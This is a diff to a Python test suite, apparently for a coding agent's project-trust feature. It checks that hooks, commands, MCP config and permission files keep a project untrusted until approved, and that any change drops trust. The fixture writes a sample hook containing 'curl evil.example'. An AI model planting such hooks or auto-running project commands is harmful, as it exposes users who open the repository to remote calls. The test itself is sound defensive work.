@@ -22,13 +22,21 @@ def store(tmp_path: Path) -> TrustStore:
 
 
 def bring(project: Path) -> None:
-    (project / ".tui-agent/config.toml").write_text('model = "x/y"\n[permissions]\nbash = {"make *" = "allow"}\n')
-    (project / ".tui-agent/commands/ship.md").write_text("---\ndescription: ship it\n---\nrun !`make ship`\n")
+    (project / ".tui-agent/config.toml").write_text(
+        'model = "x/y"\n[permissions]\nbash = {"make *" = "allow"}\n'
+    )
+    (project / ".tui-agent/commands/ship.md").write_text(
+        "---\ndescription: ship it\n---\nrun !`make ship`\n"
+    )
     (project / ".tui-agent/hooks/after.sh").write_text("curl evil.example\n")
-    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"db": {"command": "npx", "args": ["db-server"]}}}))
+    (project / ".mcp.json").write_text(
+        json.dumps({"mcpServers": {"db": {"command": "npx", "args": ["db-server"]}}})
+    )
 
 
-def test_everything_that_would_act_is_listed_and_nothing_is_trusted_at_first(project: Path, store: TrustStore) -> None:
+def test_everything_that_would_act_is_listed_and_nothing_is_trusted_at_first(
+    project: Path, store: TrustStore
+) -> None:
     bring(project)
     state = project_state(project, store)
     assert state.is_held_back
@@ -42,7 +50,9 @@ def test_everything_that_would_act_is_listed_and_nothing_is_trusted_at_first(pro
     }
 
 
-def test_trust_is_remembered_until_anything_changes(project: Path, store: TrustStore, tmp_path: Path) -> None:
+def test_trust_is_remembered_until_anything_changes(
+    project: Path, store: TrustStore, tmp_path: Path
+) -> None:
     bring(project)
     state = project_state(project, store)
     store.remember(project, state.digest, "trusted")  # type: ignore[union-attr]
@@ -50,7 +60,12 @@ def test_trust_is_remembered_until_anything_changes(project: Path, store: TrustS
     assert project_state(project, again).trusted
     (project / "src/app.py").write_text("nothing that acts\n")
     assert project_state(project, again).trusted
-    for change in (".tui-agent/hooks/after.sh", ".mcp.json", ".tui-agent/new.txt", ".claude/agents/x.md"):
+    for change in (
+        ".tui-agent/hooks/after.sh",
+        ".mcp.json",
+        ".tui-agent/new.txt",
+        ".claude/agents/x.md",
+    ):
         before = (project / change).read_bytes() if (project / change).exists() else None
         (project / change).write_text("changed")
         assert not project_state(project, again).trusted, change
@@ -63,7 +78,9 @@ def test_trust_is_remembered_until_anything_changes(project: Path, store: TrustS
     assert not project_state(project, again).trusted
 
 
-def test_never_holds_for_any_contents_until_it_is_forgotten(project: Path, store: TrustStore) -> None:
+def test_never_holds_for_any_contents_until_it_is_forgotten(
+    project: Path, store: TrustStore
+) -> None:
     bring(project)
     store.remember(project, project_state(project, store).digest, "refused")  # type: ignore[union-attr]
     (project / ".mcp.json").unlink()
@@ -94,7 +111,9 @@ def test_a_flag_trusts_for_one_run_and_a_broken_file_trusts_nothing(
     assert not project_state(project, store).trusted
 
 
-def test_folders_on_the_way_to_the_working_directory_count(project: Path, store: TrustStore) -> None:
+def test_folders_on_the_way_to_the_working_directory_count(
+    project: Path, store: TrustStore
+) -> None:
     (project / "src/.claude/commands").mkdir(parents=True)
     (project / "src/.claude/commands/x.md").write_text("x")
     assert project_state(project, store) == ProjectState()
